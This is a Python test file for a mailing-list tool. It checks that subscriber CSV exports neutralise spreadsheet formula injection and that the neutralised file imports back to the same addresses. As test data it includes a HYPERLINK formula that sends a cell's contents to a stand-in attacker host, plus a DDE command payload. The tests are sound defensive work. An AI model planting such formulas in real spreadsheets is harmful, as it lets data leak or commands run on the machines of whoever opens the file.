"""Attack 5: formula injection through `subscribers export`. Every cell of every CSV the
program writes is neutralised (OWASP: a leading quote before = + - @ tab CR), and the
importer reads such a file back to the same addresses."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from mailer.models import Subscriber
from mailer.spreadsheet import neutralise, restore, write_csv
from tests.conftest import Db
from tests.support.factories import add_readers
from tests.support.running import invoke

HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&A2,"Click")'
FORMULA_START = re.compile(r"^\s*[=+\-@\t\r]")


def exported(output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output)))


def test_a_hostile_user_agent_and_address_are_exported_as_text(cli_env: Db) -> None:
    add_readers(
        cli_env,
        ["=1+2@example.org"],
        status="pending",
        consent_at=datetime(2026, 11, 1, tzinfo=UTC),
        consent_form="@SUM(1+1)",
        consent_text="+cmd|' /C calc'!A0",
        consent_ip="-1+1",
        consent_user_agent=HYPERLINK,
    )
    add_readers(cli_env, ["anna@example.org"], consent_user_agent="  \t=1+1")
    code, output = invoke("subscribers", "export")
    assert code == 0, output
    rows = exported(output)
    assert len(rows) == 3
    for row in rows:
        for value in row:
            assert not FORMULA_START.match(value), (value, row)
    header, first, second = rows
    record = dict(zip(header, first, strict=True))
    assert record["email"] == "'=1+2@example.org"
    assert record["consent_user_agent"] == "'" + HYPERLINK
    assert record["consent_form"] == "'@SUM(1+1)"
    assert record["consent_ip"] == "'-1+1"
    assert dict(zip(header, second, strict=True))["consent_user_agent"] == "'  \t=1+1"


def test_an_export_imports_back_to_the_same_addresses(cli_env: Db, tmp_path: Path) -> None:
    add_readers(cli_env, ["=1+2@example.org", "'quote@example.org", "plain@example.org"])
    out = tmp_path / "export.csv"
    assert invoke("subscribers", "export", "--out", str(out))[0] == 0
    for address in ("=1+2@example.org", "'quote@example.org", "plain@example.org"):
        assert invoke("subscribers", "remove", address)[0] == 0
    code, output = invoke("subscribers", "import", str(out), "--confirmed")
    assert code == 0 and "3 row(s) imported" in output, output
    with cli_env.factory() as session:
        emails = sorted(session.scalars(select(Subscriber.email)))
    assert emails == ["'quote@example.org", "=1+2@example.org", "plain@example.org"]


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        "+1",
        "-1",
        "@A1",
        "\t=1",
        "\r=1",
        " =1",
        "'=1",
        "''+1",
        "'plain",
        "plain",
        "",
        "a=b",
        "2026-11-01T00:00:00",
    ],
)
def test_neutralise_and_restore_round_trip(value: str) -> None:
    cell = neutralise(value)
    assert not FORMULA_START.match(cell)
    assert restore(cell) == value


def test_write_csv_neutralises_every_cell_and_counts_rows() -> None:
    out = io.StringIO()
    count = write_csv(out, ("a", "=b"), [("=x", 3), (None, "@y")])
    assert count == 2
    assert exported(out.getvalue()) == [["a", "'=b"], ["'=x", "3"], ["", "'@y"]]
